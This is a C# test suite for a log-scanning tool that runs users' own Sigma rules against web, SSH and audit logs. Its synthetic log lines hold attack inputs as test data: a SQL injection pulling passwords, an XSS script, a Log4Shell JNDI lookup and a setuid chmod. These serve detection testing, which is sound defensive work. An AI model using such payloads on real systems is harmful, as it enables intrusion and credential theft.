using System.Globalization;
using System.Text;
using System.Text.Json.Nodes;
using Noroshi.Cli;
using Noroshi.Cli.Scan;
using Noroshi.Cli.Scan.Follow;
using Noroshi.Core.Vocabulary;
using Noroshi.Sensor.Detectors;

namespace Noroshi.Tests.Cli.Scan;

/// <summary>A user's own Sigma rules, from the command line to what is printed.</summary>
public sealed class OwnRulesTests : IDisposable
{
    private const string Teapot = """
        title: Teapot asked for
        id: 11111111-1111-4111-8111-111111111111
        description: Somebody asked for tea.
        level: high
        status: stable
        tags: [attack.reconnaissance, attack.t1595.002]
        logsource: { category: webserver }
        detection:
          s: { cs-uri-query|contains: 'tea pot' }
          condition: s
        falsepositives: [Tea time]
        """;

    private const string Burst = """
        title: A door tried
        name: door
        logsource: { product: linux, service: sshd }
        detection:
          s: ['door tried']
          condition: s
        ---
        title: Many doors
        id: 22222222-2222-4222-8222-222222222222
        level: critical
        tags: [attack.t1110]
        correlation: { type: event_count, rules: [door], group-by: [Hostname], timespan: 1m, condition: { gte: 3 } }
        """;

    private readonly ScanFolder _folder = new();

    public void Dispose() => _folder.Dispose();

    private static string Request(int second, string source, string target) =>
        string.Create(CultureInfo.InvariantCulture, $"{source} - - [12/Oct/2026:10:00:{second:D2} +0000] \"GET {target} HTTP/1.1\" 200 512 \"-\" \"Mozilla/5.0\"");

    private static JsonNode[] Findings(TestTerminal run) => [.. run.Output.Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(l => JsonNode.Parse(l)!)];

    [Fact]
    public async Task Scan_RuleFits_IsOneFindingWithTheContractsFields()
    {
        var rules = _folder.Write("rules/tea.yml", Teapot);
        var log = _folder.Write("access.log", Request(1, "192.0.2.1", "/?x=tea%20pot"), Request(2, "192.0.2.2", "/"), Request(3, "192.0.2.2", "/?x=tea+pot"), Request(4, "192.0.2.1", "/?x=tea%20pot"));
        var run = await TestTerminal.RunAsync(null, "scan", log, "--json", "--rules", rules);
        Assert.Equal((ExitCode.Found, ""), (run.ExitCode, run.Error));
        var finding = Assert.Single(Findings(run));
        Assert.Equal(("11111111-1111-4111-8111-111111111111", "Teapot asked for", "scanner", "high", "high"),
            ((string?)finding["rule"], (string?)finding["title"], (string?)finding["kind"], (string?)finding["severity"], (string?)finding["confidence"]));
        Assert.Equal(("192.0.2.1", 2, 3), ((string?)finding["source"]!["ip"], (int)finding["source"]!["count"]!, (int)finding["count"]!));
        Assert.Equal("T1595.002", (string?)Assert.Single(finding["attack"]!.AsArray()));
        Assert.Equal(("2026-10-12T10:00:01.000Z", "2026-10-12T10:00:04.000Z"), ((string?)finding["first"], (string?)finding["last"]));
        Assert.Equal([1L, 3L, 4L], finding["lines"]!.AsArray().Select(l => (long)l!["number"]!));
    }

    [Fact]
    public async Task Scan_RuleFits_SummaryAndPageSayWhatTheRuleSays()
    {
        var rules = _folder.Write("rules/tea.yml", Teapot.Replace("Somebody", "Some\\x1b[2Jbody <script>", StringComparison.Ordinal));
        var log = _folder.Write("access.log", Request(1, "192.0.2.1", "/?x=tea%20pot"));
        var page = Path.Combine(_folder.Path, "out.html");
        var run = await TestTerminal.RunAsync(null, "scan", log, "--rules", rules, "--report", page);
        var html = await File.ReadAllTextAsync(page, TestContext.Current.CancellationToken);
        Assert.All((string[])["Teapot asked for", "tea.yml(1)", "Tea time", "1 rules of your own"], text => Assert.Contains(text, run.Output, StringComparison.Ordinal));
        Assert.All((string[])["Teapot asked for", "Tea time", "&lt;script&gt;"], text => Assert.Contains(text, html, StringComparison.Ordinal));
        Assert.DoesNotContain(run.Output + html, c => c == '\u001b');
    }

    [Fact]
    public async Task Scan_Correlation_IsAFindingOfItsGroupWithItsLines()
    {
        var rules = _folder.Write("doors.yml", Burst);
        var log = _folder.Write("auth.log",
            [.. Enumerable.Range(0, 4).Select(i => $"Oct 12 15:00:{i:D2} gate sshd[1]: door tried"), "Oct 12 15:00:09 hut sshd[1]: door tried", "Oct 12 16:00:00 hut sshd[1]: door tried", "Oct 12 17:00:00 hut sshd[1]: door tried"]);
        var run = await TestTerminal.RunAsync(null, "scan", log, "--json", "--rules", rules, "--zone", "UTC");
        var finding = Assert.Single(Findings(run), f => (string?)f["rule"] == "22222222-2222-4222-8222-222222222222");
        Assert.Equal(("Many doors", "brute-force", "critical"), ((string?)finding["title"], (string?)finding["kind"], (string?)finding["severity"]));
        Assert.Equal([1L, 2L, 3L], finding["lines"]!.AsArray().Select(l => (long)l!["number"]!));
        Assert.DoesNotContain(Findings(run), f => (string?)f["rule"] == "door");
        var summary = await TestTerminal.RunAsync(null, "scan", log, "--rules", rules);
        Assert.Contains("Hostname=gate", summary.Output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Scan_AllLines_NamesTheRulesOfEachLineButNotThoseThatOnlyServeACorrelation()
    {
        _folder.Write("rules/tea.yml", Teapot);
        _folder.Write("rules/doors.yml", Burst);
        _folder.Write("rules/django.yml", "title: Django", "logsource: { category: application, product: django }", "detection:", "  s: [SuspiciousOperation]", "  condition: s");
        var access = _folder.Write("access.log", Request(1, "192.0.2.1", "/"), Request(2, "192.0.2.1", "/?x=tea%20pot"), Request(3, "192.0.2.1", "/?x=tea%20pot&id=1%27%20UNION%20SELECT%20name%2Cpassword%20FROM%20users--%20"));
        var app = _folder.Write("app.log", "Oct 12 15:00:00 gate sshd[1]: door tried", "django.core.exceptions.SuspiciousOperation: x");
        var run = await TestTerminal.RunAsync(null, "scan", access, app, "--all-lines", "--rules", Path.Combine(_folder.Path, "rules"));
        Assert.Equal((ExitCode.Done, ""), (run.ExitCode, run.Error));
        const string tea = "11111111-1111-4111-8111-111111111111";
        var lines = Findings(run);
        Assert.Equal([(access, 2L, "high", tea), (access, 3L, "high", tea), (app, 2L, "default", "Django")],
            lines.Select(l => ((string)l["file"]!, (long)l["number"]!, (string)l["tier"]!, (string)Assert.Single(l["rules"]!.AsArray())!)));
        Assert.Equal([tea, "sql-injection", "Django"], lines.Select(l => (string?)l["classes"]!.AsArray().FirstOrDefault() ?? (string?)l["rule"]));
    }

    [Fact]
    public async Task Scan_CorrelationOverTwoFiles_TakesEventsInTheOrderOfTime()
    {
        var rules = _folder.Write("both.yml", Teapot.Replace("id: 1111", "name: tea\nid: 1111", StringComparison.Ordinal) + "\n---\n" + Burst.Split("---")[0] + """
            ---
            title: Tea, then doors
            name: both
            correlation: { type: temporal_ordered, rules: [tea, door], timespan: 1m }
            """);
        // The log of doors is read first, and ends long after the first cup.
        var auth = _folder.Write("a/auth.log", "Oct 12 10:00:20 gate sshd[1]: door tried", "Oct 12 23:00:00 gate sshd[1]: door tried");
        var access = _folder.Write("b/access.log", Request(10, "192.0.2.1", "/?x=tea%20pot"), Request(30, "192.0.2.1", "/").Replace("12/Oct", "13/Oct", StringComparison.Ordinal));
        var run = await TestTerminal.RunAsync(null, "scan", auth, access, "--json", "--rules", rules, "--zone", "UTC");
        var finding = Assert.Single(Findings(run), f => (string?)f["rule"] == "both");
        Assert.Equal([auth, access], finding["lines"]!.AsArray().Select(l => (string?)l!["file"]));
    }

    [Fact]
    public async Task Scan_SomeRulesBroken_SaysWhereAndRunsTheOthers()
    {
        _folder.Write("rules/tea.yml", Teapot);
        _folder.Write("rules/deep/broken.yaml", "title: Broken", "logsource: { category: webserver }", "detection:", "  s: { a|sounds: b }", "  t: { a|re: '(?=b)' }", "  condition: s");
        _folder.Write("rules/notes.txt", "no rule");
        var log = _folder.Write("access.log", Request(1, "192.0.2.1", "/?x=tea%20pot"));
        var run = await TestTerminal.RunAsync(null, "scan", log, "--json", "--rules", Path.Combine(_folder.Path, "rules"), "--rules", Path.Combine(_folder.Path, "nowhere"));
        Assert.Equal(ExitCode.Found, run.ExitCode);
        Assert.Single(Findings(run));
        Assert.All((string[])["NRS-D010", "broken.yaml(4,", "NRS-D018", "broken.yaml(5,", "NRS-X121"], text => Assert.Contains(text, run.Error, StringComparison.Ordinal));
        Assert.DoesNotContain("notes.txt", run.Error, StringComparison.Ordinal);
        var quiet = _folder.Write("quiet.log", Request(1, "192.0.2.1", "/"));
        Assert.Equal(ExitCode.ScanFailed, (await TestTerminal.RunAsync(null, "scan", quiet, "--rules", Path.Combine(_folder.Path, "rules"))).ExitCode);
    }

    [Fact]
    public async Task Scan_MoreRulesThanAFolderMayHold_RefusesInsteadOfTakingSome()
    {
        var log = _folder.Write("access.log", Request(1, "192.0.2.1", "/?x=tea%20pot"));
        var rules = Directory.CreateDirectory(Path.Combine(_folder.Path, "rules")).FullName;
        _folder.Write("rules/tea.yml", Teapot);
        for (var i = 0; i < OwnRules.MaxFiles; i++) await File.Create(Path.Combine(rules, $"{i}.yml")).DisposeAsync();
        var run = await TestTerminal.RunAsync(null, "scan", log, "--rules", rules);
        Assert.Equal((ExitCode.ScanFailed, ""), (run.ExitCode, run.Output));
        Assert.StartsWith($"NRS-X167 {rules}: This folder holds more than 50,000 files", run.Error, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Scan_NoFormatKnowsTheLine_RulesLookAtItAllTheSame()
    {
        var rules = _folder.Write("django.yml", "title: Django", "logsource: { category: application, product: django }", "detection:", "  s: [SuspiciousOperation]", "  condition: s");
        var run = await TestTerminal.RunAsync(null, "scan", _folder.Write("app.log", "django.core.exceptions.SuspiciousOperation: x"), "--rules", rules);
        Assert.Equal(ExitCode.Found, run.ExitCode);
        Assert.Contains("Django", run.Output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Scan_UnknownAccountInALineThatFits_IsMasked()
    {
        var rules = _folder.Write("r.yml", "title: Failed", "logsource: { product: linux, service: sshd }", "detection:", "  s: [Failed password]", "  condition: s");
        var page = Path.Combine(_folder.Path, "out.html");
        var run = await TestTerminal.RunAsync(null, "scan", _folder.Write("auth.log", "Oct 12 15:00:00 gate sshd[77]: Failed password for invalid user hunter2 from 192.0.2.9 port 1 ssh2"), "--rules", rules, "--report", page);
        Assert.Contains("Failed", run.Output, StringComparison.Ordinal);
        Assert.DoesNotContain("hunter2", run.Output + await File.ReadAllTextAsync(page, TestContext.Current.CancellationToken), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Scan_ManyThreads_FindWhatOneFinds()
    {
        _folder.Write("rules/tea.yml", Teapot);
        _folder.Write("rules/many.yml", "title: Many cups", "name: cups", "correlation: { type: value_count, rules: [11111111-1111-4111-8111-111111111111], group-by: [c-ip], timespan: 1m, condition: { gte: 5, field: cs-uri } }");
        var log = _folder.Write("access.log", [.. Enumerable.Range(0, 30_000).Select(i => Request(i / 500, $"192.0.2.{i % 50}", i % 37 == 0 ? $"/?n={i}&x=tea%20pot" : "/page"))]);
        string[] args = ["scan", log, "--json", "--rules", Path.Combine(_folder.Path, "rules"), "--threads"];
        var one = await TestTerminal.RunAsync(null, [.. args, "1"]);
        Assert.Contains("cups", one.Output, StringComparison.Ordinal);
        Assert.Equal(one.Output, (await TestTerminal.RunAsync(null, [.. args, "4"])).Output);
    }

    [Fact]
    public async Task Scan_PublicRules_AllLoadAndFindWhatTheyAreFor()
    {
        var data = Repository.TestData("sigma");
        Assert.SkipWhen(data is null, "The public Sigma data is not laid out.");
        var log = _folder.Write("access.log", Request(1, "192.0.2.1", "/?id=%3Cscript%3Ealert(1)%3C/script%3E"), Request(2, "192.0.2.1", "/?x=${jndi:ldap://192.0.2.7/c}"), Request(3, "192.0.2.1", "/"));
        var auth = _folder.Write("auth.log", "Oct 12 15:00:00 gate sshd[77]: fatal: buffer_get_string: bad string", "Oct 12 15:00:00 gate app[77]: nothing special");
        var audit = _folder.Write("audit.log", """type=EXECVE msg=audit(1796000000.579:2995): argc=3 a0="chmod" a1="u+s" a2="/tmp/x" """.TrimEnd());
        var run = await TestTerminal.RunAsync(null, "scan", log, auth, audit, "--json", "--rules", Path.Combine(data!, "rules"));
        Assert.Equal((ExitCode.Found, ""), (run.ExitCode, run.Error));
        var titles = Findings(run).Select(f => (string)f["title"]!).ToArray();
        Assert.All((string[])["Cross Site Scripting Strings", "Server Side Template Injection Strings", "Suspicious OpenSSH Daemon Error", "Suspicious Commands Linux"], title => Assert.Contains(title, titles));
    }

    [Fact]
    public void Follow_RuleFitsAnAppendedLine_IsTold()
    {
        List<Fault> faults = [];
        var content = ScanContent.Load(faults, [new("tea.yml", Encoding.UTF8.GetBytes(Teapot))])!;
        var log = _folder.Write("access.log", Request(1, "192.0.2.1", "/"));
        var options = new ScanOptions { Threads = 1, Zone = TimeZoneInfo.Utc, Offset = TimeSpan.Zero, Watch = content.Watch, Web = content.Web };
        List<Finding> told = [];
        using var run = new FollowRun(FollowInputs.Of([log], DateTimeOffset.UtcNow, faults), options, content, TimeProvider.System);
        var following = new Following(run, told.Add);
        following.Step(TestContext.Current.CancellationToken);
        Assert.Empty(told);
        File.AppendAllText(log, Request(2, "192.0.2.2", "/?x=tea%20pot") + "\n");
        following.Step(TestContext.Current.CancellationToken);
        following.Judge();
        var finding = Assert.Single(told);
        Assert.Equal(("Teapot asked for", "192.0.2.2", 2L), (finding.Sigma!.Title, Assert.Single(finding.Sources), Assert.Single(finding.Lines).Number));
        Assert.Empty(faults);
    }

    [Fact]
    public async Task Explain_WithRules_SaysWhyEachFiredOrNot()
    {
        _folder.Write("rules/tea.yml", Teapot);
        _folder.Write("rules/doors.yml", Burst);
        var run = await TestTerminal.RunAsync(null, "explain", Request(1, "192.0.2.1", "/?x=tea%20pot"), "--rules", Path.Combine(_folder.Path, "rules"));
        Assert.Equal(ExitCode.Done, run.ExitCode);
        Assert.Contains("✓ Teapot asked for: fires", run.Output, StringComparison.Ordinal);
        Assert.Contains("– A door tried: written for another log (linux, sshd)", run.Output, StringComparison.Ordinal);
        Assert.Contains("– Many doors", run.Output, StringComparison.Ordinal);
    }
}
